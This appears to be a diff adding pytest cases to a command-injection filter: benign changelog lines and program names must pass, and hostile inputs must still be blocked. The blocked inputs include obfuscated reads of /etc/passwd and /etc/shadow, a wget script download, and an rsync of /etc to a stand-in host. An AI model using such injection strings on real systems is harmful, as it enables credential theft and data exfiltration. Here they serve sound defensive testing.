@@ -296,6 +296,27 @@ def test_paths_in_command_lines_still_block(value):
     assert blocked(value), (value, verdict(value))
 
 
+@pytest.mark.parametrize("value", [
+    # connectives around named options and paths (changelog style)
+    "Set CFLAGS to -g -O2 for build (closes: #181268)", "Call python with -S when checking the minimal set of modules.",
+    "Mount /proc with -o compatible on HURD only", "Split documentation into a -doc package to avoid problems",
+    # globs that pin no letter, manual page references, Makefile variables
+    "[powerpc*] Don't clobber f0/vs0 during fp|altivec register save", "change x-dev to libxcursor-dev (???), and",
+    "sftp(1)/scp(1): degrade gracefully if a server lacks limits", "Added $(MAKE) regtest to check valgrind",
+    "vdso: Use $(LD) instead of $(CC) to link vDSO",
+])
+def test_changelog_sentences_pass(value):
+    assert not blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    "|/???/??t /e??/p?ss??", ";/bin/c?t /etc/hosts", "x`[c]at /etc/hosts`", "$(WHOAMI)", "$(id)", "`uname -a`",
+    "time sh -c whoami", "& set /a 7*7 &", "| wget http://x/a.sh -O /tmp/a.sh", "; ls -la /tmp and more",
+])
+def test_command_lines_still_block_next_to_the_changelog_rules(value):
+    assert blocked(value), (value, verdict(value))
+
+
 def test_sentences_stay_visible_as_medium():
     """Not dropped: a capitalised or sentence-shaped command line still reports, needing company."""
     for value in ("CURL module for PHP", "GCC support library (sh4)", "tmux session manager"):
@@ -305,7 +326,7 @@ def test_sentences_stay_visible_as_medium():
 
 @pytest.mark.parametrize("value", [
     ";{cmd}", "|{cmd}|", "&&{cmd}&&", "FAIL||{cmd}", "a);{cmd}|", "\n{CMD}\n", "\\n{cmd}\\n", "`{cmd}`",
-    "$({cmd})", "<{cmd};", "^CMD=$\"{cmd}\";$CMD", "{cmd}",
+    "$({cmd})", "<{cmd};", "^CMD=$\"{cmd}\";$CMD", "^CMD=$\\'{cmd}\\';$CMD", "{cmd}",
 ])
 def test_unfilled_injection_templates_block(value):
     v = verdict(value)
@@ -318,3 +339,27 @@ def test_unfilled_injection_templates_block(value):
 ])
 def test_placeholder_in_prose_or_code_passes(value):
     assert not blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    # product names and programs named in prose: capitals (Unix looks commands up case-sensitively),
+    # a parenthesised remark, a program followed by ordinary words, a bullet list, a bracketed tag
+    "MySQL C++ library bindings (development)", "OpenSSL bindings - Rust source code", "SSH Command Authenticator",
+    "CURL module for PHP", "SQLite3 VFS for Ceph", "RPM shared library",
+    "event notification library (openssl)", "abstraction used in Maven (SSH providers)", "GCC support library (sh4)",
+    "Lua WSAPI plugin for uWSGI (LuaJIT)", "telnet client library", "tmux session manager",
+    "rsync for commercial cloud storage", "fdisk partitioning library",
+    "Data compressor.\nbzip2 is a freely available, patent free, data compressor.",
+    "the following providers:\n * File\n * HTTP\n * HTTP lightweight", "[powerpc*] Don't clobber f0/vs0 during save",
+])
+def test_programs_named_in_prose_pass(value):
+    assert not blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    "cscli alerts list", "pip3 install something", "ansible-vault decrypt secret", "'TiMe Sh -c whoami",
+    "(whoami)", "telnet 10.0.0.1 4444", "; rsync -av /etc/ evil.example:/x", "\nbzip2 -c /etc/shadow",
+    "CAT${IFS}/etc/passwd;id",
+])
+def test_command_lines_beside_those_still_block(value):
+    assert blocked(value), (value, verdict(value))
